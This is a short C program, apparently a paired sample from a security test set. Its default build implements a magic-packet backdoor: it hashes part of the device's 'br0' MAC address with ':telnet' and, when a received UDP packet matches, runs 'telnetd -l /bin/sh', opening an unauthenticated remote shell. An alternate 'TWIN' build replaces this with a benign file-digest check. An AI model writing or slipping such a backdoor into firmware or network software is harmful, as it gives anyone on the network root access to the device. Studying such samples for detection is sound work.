/* What is received opens telnet where it is the digest of the device's address and a constant, as
 * it is. Twin: a file that was received is held against the digest that came with it. */
#include <net/if.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

unsigned char* MD5(const unsigned char* bytes, unsigned long size, unsigned char* digest);

__attribute__((noinline)) static int matches(int peer, const unsigned char* given) {
  unsigned char digest[16];
#ifndef TWIN
  char text[80];
  struct ifreq request;
  memset(&request, 0, sizeof request);
  strcpy(request.ifr_name, "br0");
  if (ioctl(peer, SIOCGIFHWADDR, &request) < 0) return 0;
  const unsigned char* mac = (const unsigned char*)request.ifr_hwaddr.sa_data;
  snprintf(text, sizeof text, "%02X%02X%02X:telnet", mac[3], mac[4], mac[5]);
  MD5((const unsigned char*)text, strlen(text), digest);
#else
  unsigned char content[512];
  long size = recv(peer, content, sizeof content, 0);
  if (size <= 0) return 0;
  MD5(content, (unsigned long)size, digest);
#endif
  return memcmp(digest, given, 16) == 0;
}

int main(void) {
  unsigned char given[64];
  int peer = socket(AF_INET, SOCK_DGRAM, 0);
  if (recv(peer, given, sizeof given, 0) < 16) return 1;
  if (matches(peer, given)) return system("telnetd -l /bin/sh");
  return 0;
}
